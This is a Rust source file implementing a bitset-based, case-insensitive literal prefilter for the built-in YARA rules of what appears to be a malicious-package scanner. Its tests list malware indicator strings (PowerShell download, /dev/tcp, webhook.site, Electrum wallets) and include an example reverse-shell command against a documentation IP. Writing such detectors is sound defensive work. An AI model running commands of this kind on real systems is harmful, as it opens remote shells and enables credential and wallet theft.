//! Whether a file holds any of a set of literals, compared without regard to ASCII case:
//! the gate in front of the built-in YARA rules (the `anchor` entries of their metadata,
//! read by `builtin_gate` in `yara.rs`).
//!
//! Most files hold none, so the cost is the pass over their bytes. An Aho-Corasick DFA
//! takes one dependent table load per byte; here each position's four bytes are hashed
//! into a bitset instead, the positions independent of each other, which the CPU runs
//! about twice as fast. Each literal is represented by one four-byte piece of it (a
//! "gram", the one made of the bytes least common in package code), entered in the
//! bitset in every ASCII case; a position whose four bytes hit the bitset is a candidate,
//! and a candidate counts only when a literal owning that gram is there in whole.
//! A second bitset, hashed another way, turns away most positions that hit the first by
//! chance before the literals are looked at. Literals shorter than four bytes are
//! searched for on their own: by a run of two or more bytes without letters when they
//! have one (one pass whatever the case), else in every case spelling. A literal may ask
//! for a word start, as YARA's `\b` before a letter does: the byte before it is then not
//! a letter, a digit or `_` (or there is none).

/// Slots of each bitset (2^18 bits, 32 KiB): with a few thousand cased grams set, about
/// one position in a hundred hits the first by chance, and few of those the second.
const SLOT_BITS: u32 = 18;
const SLOT_WORDS: usize = (1 << SLOT_BITS) / 64;

/// How common each byte is in package code (the top 1,000 npm packages' text files,
/// ASCII letters folded to lower case): log2 of its occurrences per million bytes, plus
/// one. Picks the rarest four-byte piece of each literal; a poor pick costs time, never
/// a match.
#[rustfmt::skip]
const COMMONNESS: [u8; 256] = [
    7, 0, 0, 0, 0, 0, 0, 0, 0, 13, 14, 0, 0, 7, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    17, 10, 14, 9, 10, 7, 11, 12, 13, 13, 12, 10, 14, 12, 14, 13, 12, 12, 11, 11, 11, 10, 10, 10, 10, 10, 13, 13, 10, 13, 11, 10,
    10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 11, 12, 11, 8, 12,
    12, 16, 13, 15, 14, 16, 14, 14, 14, 15, 11, 13, 15, 14, 15, 15, 14, 12, 15, 15, 16, 14, 13, 12, 12, 13, 11, 13, 11, 13, 5, 0,
    8, 7, 7, 7, 6, 6, 6, 6, 6, 5, 6, 5, 6, 6, 4, 6, 5, 5, 5, 5, 7, 6, 6, 5, 5, 6, 5, 5, 5, 5, 6, 7,
    5, 6, 5, 5, 7, 6, 6, 7, 6, 6, 6, 6, 5, 5, 7, 6, 7, 6, 7, 6, 6, 7, 5, 5, 7, 6, 6, 6, 6, 7, 7, 6,
    0, 0, 5, 7, 5, 5, 1, 1, 1, 3, 0, 1, 2, 1, 6, 5, 9, 8, 3, 2, 1, 5, 3, 6, 8, 7, 4, 5, 0, 0, 2, 0,
    9, 7, 8, 6, 5, 6, 6, 6, 6, 5, 3, 4, 4, 3, 0, 4, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];

/// Most ASCII-case spellings of one short literal or gram (four letters give 16).
const MAX_CASE_VARIANTS: usize = 16;

/// One literal the gate looks for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Literal {
    pub text: Vec<u8>,
    /// Counts only where a word starts (YARA's `\b` before a word character).
    pub word_start: bool,
}

impl Literal {
    pub(crate) fn new(text: impl Into<Vec<u8>>, word_start: bool) -> Literal {
        Literal {
            text: text.into(),
            word_start,
        }
    }

    /// Whether `haystack` holds this literal, in any ASCII case, from `start` (where a word
    /// starts, when it must).
    fn is_at(&self, haystack: &[u8], start: usize) -> bool {
        let found = haystack
            .get(start..start + self.text.len())
            .is_some_and(|found| found.eq_ignore_ascii_case(&self.text));
        let word_starts = || {
            start == 0 || {
                let before = haystack[start - 1];
                !(before.is_ascii_alphanumeric() || before == b'_')
            }
        };
        found && (!self.word_start || word_starts())
    }
}

pub(crate) struct AnchorGate {
    /// Cased grams, hashed.
    slots: Box<[u64; SLOT_WORDS]>,
    /// The same grams, hashed another way.
    confirm: Box<[u64; SLOT_WORDS]>,
    /// The literals of four bytes or more, in lower case, each with its lower-case gram
    /// and where that starts in it; sorted by gram.
    grams: Vec<(u32, usize, Literal)>,
    /// The shorter ones: a searcher for a piece of one, where the piece starts in it, and
    /// the literal in lower case.
    short: Vec<(memchr::memmem::Finder<'static>, usize, Literal)>,
}

impl std::fmt::Debug for AnchorGate {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AnchorGate")
            .field("literals", &(self.grams.len() + self.short.len()))
            .finish()
    }
}

fn slot(gram: u32) -> usize {
    (gram.wrapping_mul(0x9E37_79B1) >> (32 - SLOT_BITS)) as usize
}

fn confirm_slot(gram: u32) -> usize {
    (gram.wrapping_mul(0x85EB_CA77) >> (32 - SLOT_BITS)) as usize
}

fn set(bits: &mut [u64; SLOT_WORDS], slot: usize) {
    bits[slot / 64] |= 1 << (slot % 64);
}

fn is_set(bits: &[u64; SLOT_WORDS], slot: usize) -> bool {
    bits[slot / 64] & (1 << (slot % 64)) != 0
}

fn gram_at(bytes: &[u8], at: usize) -> Option<u32> {
    let quad: [u8; 4] = bytes.get(at..at + 4)?.try_into().ok()?;
    Some(u32::from_le_bytes(quad))
}

impl AnchorGate {
    /// A gate for `literals`. Errs when a short literal or a gram has more case spellings
    /// than [`MAX_CASE_VARIANTS`] (it never does with four bytes or fewer).
    pub(crate) fn new(literals: &[Literal]) -> Result<AnchorGate, String> {
        let mut gate = AnchorGate {
            slots: Box::new([0; SLOT_WORDS]),
            confirm: Box::new([0; SLOT_WORDS]),
            grams: Vec::new(),
            short: Vec::new(),
        };
        for literal in literals {
            let lowered = literal.text.to_ascii_lowercase();
            if lowered.is_empty() {
                return Err("an empty literal".to_string());
            }
            if lowered.len() < 4 {
                gate.add_short(Literal::new(lowered, literal.word_start))?;
                continue;
            }
            let commonness = |at: usize| -> u32 {
                lowered[at..at + 4]
                    .iter()
                    .map(|&b| u32::from(COMMONNESS[usize::from(b)]))
                    .sum()
            };
            let at = (0..=lowered.len() - 4)
                .min_by_key(|&at| commonness(at))
                .unwrap_or(0);
            for spelling in case_variants(&lowered[at..at + 4])? {
                if let Some(gram) = gram_at(&spelling, 0) {
                    set(&mut gate.slots, slot(gram));
                    set(&mut gate.confirm, confirm_slot(gram));
                }
            }
            if let Some(gram) = gram_at(&lowered, at) {
                gate.grams
                    .push((gram, at, Literal::new(lowered, literal.word_start)));
            }
        }
        gate.grams.sort_unstable_by_key(|(gram, _, _)| *gram);
        Ok(gate)
    }

    /// A literal of one to three bytes: searched for by its longest run without letters
    /// when that run has two bytes or more, else by each of its case spellings.
    fn add_short(&mut self, literal: Literal) -> Result<(), String> {
        let lowered = &literal.text;
        let mut best = (0, 0);
        let mut run_start = 0;
        for at in 0..=lowered.len() {
            if at == lowered.len() || lowered[at].is_ascii_alphabetic() {
                if at - run_start > best.1 - best.0 {
                    best = (run_start, at);
                }
                run_start = at + 1;
            }
        }
        if best.1 - best.0 >= 2 {
            let finder = memchr::memmem::Finder::new(&lowered[best.0..best.1]).into_owned();
            self.short.push((finder, best.0, literal));
        } else {
            for spelling in case_variants(lowered)? {
                let finder = memchr::memmem::Finder::new(&spelling).into_owned();
                self.short.push((finder, 0, literal.clone()));
            }
        }
        Ok(())
    }

    /// Whether `haystack` holds one of the literals, in any ASCII case.
    pub(crate) fn is_match(&self, haystack: &[u8]) -> bool {
        let short_found = self.short.iter().any(|(finder, offset, literal)| {
            // Every occurrence, overlapping ones too (`find_iter` skips those): in `000x`
            // the piece `00` of `00x` fits at 0, but the literal only at 1.
            let mut from = 0;
            while let Some(found) = haystack.get(from..).and_then(|rest| finder.find(rest)) {
                let at = from + found;
                if at
                    .checked_sub(*offset)
                    .is_some_and(|start| literal.is_at(haystack, start))
                {
                    return true;
                }
                from = at + 1;
            }
            false
        });
        short_found
            || haystack.windows(4).enumerate().any(|(at, quad)| {
                let gram = u32::from_le_bytes(quad.try_into().unwrap_or_default());
                // Below 2^SLOT_BITS: the word index is in range without a check.
                is_set(&self.slots, slot(gram))
                    && is_set(&self.confirm, confirm_slot(gram))
                    && self.holds_literal(haystack, at, gram)
            })
    }

    /// Whether a literal whose gram is `gram` (as found at `at`, in any case) is there in
    /// whole.
    #[cold]
    fn holds_literal(&self, haystack: &[u8], at: usize, gram: u32) -> bool {
        let gram = u32::from_le_bytes(gram.to_le_bytes().map(|b| b.to_ascii_lowercase()));
        let first = self.grams.partition_point(|(g, _, _)| *g < gram);
        self.grams[first..]
            .iter()
            .take_while(|(g, _, _)| *g == gram)
            .any(|(_, offset, literal)| {
                at.checked_sub(*offset)
                    .is_some_and(|start| literal.is_at(haystack, start))
            })
    }
}

/// Every ASCII-case spelling of `lowered`.
fn case_variants(lowered: &[u8]) -> Result<Vec<Vec<u8>>, String> {
    let letters = lowered.iter().filter(|b| b.is_ascii_lowercase()).count();
    if 1usize
        .checked_shl(letters as u32)
        .is_none_or(|n| n > MAX_CASE_VARIANTS)
    {
        return Err(format!(
            "`{}` has too many case spellings",
            String::from_utf8_lossy(lowered)
        ));
    }
    let mut spellings = vec![Vec::with_capacity(lowered.len())];
    for &byte in lowered {
        if byte.is_ascii_lowercase() {
            let upper: Vec<Vec<u8>> = spellings
                .iter()
                .map(|spelling| {
                    let mut spelling = spelling.clone();
                    spelling.push(byte.to_ascii_uppercase());
                    spelling
                })
                .collect();
            for spelling in &mut spellings {
                spelling.push(byte);
            }
            spellings.extend(upper);
        } else {
            for spelling in &mut spellings {
                spelling.push(byte);
            }
        }
    }
    Ok(spellings)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// (text, whether it must start a word)
    const LITERALS: &[(&str, bool)] = &[
        ("_0x", false),
        ("iwr ", true),
        ("powershell.exe", false),
        ("/dev/tcp/", false),
        ("webhook.site", false),
        ("Electrum\\wallets", false),
        ("ﾟωﾟﾉ= /", false),
        ("qZ", true),
        ("00x", false),
        ("-z", true),
    ];

    fn literals() -> Vec<Literal> {
        LITERALS
            .iter()
            .map(|(text, word_start)| Literal::new(*text, *word_start))
            .collect()
    }

    /// The same question through an Aho-Corasick automaton (every occurrence, overlapping,
    /// checked for a word start where one is asked for), as the gate was before.
    fn reference(haystack: &[u8]) -> bool {
        let texts: Vec<&str> = LITERALS.iter().map(|(text, _)| *text).collect();
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&texts)
            .expect("automaton")
            .find_overlapping_iter(haystack)
            .any(|found| {
                let word_start = LITERALS[found.pattern().as_usize()].1;
                !word_start
                    || found.start() == 0
                    || !(haystack[found.start() - 1].is_ascii_alphanumeric()
                        || haystack[found.start() - 1] == b'_')
            })
    }

    #[test]
    fn literals_are_found_in_any_case_anywhere_and_only_in_whole() {
        let gate = AnchorGate::new(&literals()).expect("gate");
        for (text, expected) in [
            ("Start-Process POWERSHELL.Exe -c", true),
            ("var _0X1a2b = [];", true),
            ("iwr", false),
            ("IWR https://x.example", true),
            ("(iwr https://x.example", true),
            ("confirm('x'); xiwr y", false),
            ("_iwr y", false),
            ("exec('bash -i >& /DEV/TCP/192.0.2.1/4444')", true),
            ("/dev/tc", false),
            ("https://Webhook.Site/abc", true),
            ("webhook.sit", false),
            ("ebhook.site", false),
            ("C:\\Electrum\\WALLETS\\default", true),
            ("ﾟωﾟﾉ= /", true),
            ("x_0y _0 _0X", true),
            ("x_0y _0", false),
            ("xQzy", false),
            (" qZy", true),
            ("000X", true),
            ("a-z-z", false),
            ("a-z -z", true),
            ("q z", false),
            ("", false),
            ("abc", false),
        ] {
            let gate_says = gate.is_match(text.as_bytes());
            assert_eq!(gate_says, expected, "{text:?}");
            assert_eq!(gate_says, reference(text.as_bytes()), "{text:?}");
        }
    }

    #[test]
    fn the_gate_answers_as_an_automaton_over_the_same_literals() {
        let gate = AnchorGate::new(&literals()).expect("gate");
        // A deterministic mix of code-like text, literals in mixed case, their cut-off
        // pieces and arbitrary bytes, at every offset.
        let mut state: u64 = 0x2545_f491_4f6c_dd1d;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let filler: &[&[u8]] = &[
            b"function f(a) { return a + 1; }\n",
            b"const x = require('fs');",
            b"\xff\x00\x80 ",
            b"powershel",
            b"webhook.",
            b"_0",
            b"/dev/",
        ];
        for _ in 0..3000 {
            let mut haystack = Vec::new();
            for _ in 0..(next() % 6) {
                let pick = next();
                if pick % 5 == 0 {
                    let literal = LITERALS[(pick / 5) as usize % LITERALS.len()].0.as_bytes();
                    haystack.extend(literal.iter().map(|&b| {
                        if next() % 2 == 0 {
                            b.to_ascii_uppercase()
                        } else {
                            b
                        }
                    }));
                } else {
                    haystack.extend_from_slice(filler[(pick / 5) as usize % filler.len()]);
                }
            }
            let cut = (next() as usize) % (haystack.len() + 1);
            for haystack in [&haystack[..], &haystack[cut..], &haystack[..cut]] {
                assert_eq!(
                    gate.is_match(haystack),
                    reference(haystack),
                    "{:?}",
                    String::from_utf8_lossy(haystack)
                );
            }
        }
    }

    #[test]
    fn a_short_literal_with_too_many_spellings_is_refused() {
        assert!(
            AnchorGate::new(&[Literal::new("abcde", false)]).is_ok(),
            "grams have four bytes"
        );
        assert!(case_variants(b"abcde").is_err());
        assert!(AnchorGate::new(&[Literal::new("", false)]).is_err());
    }
}
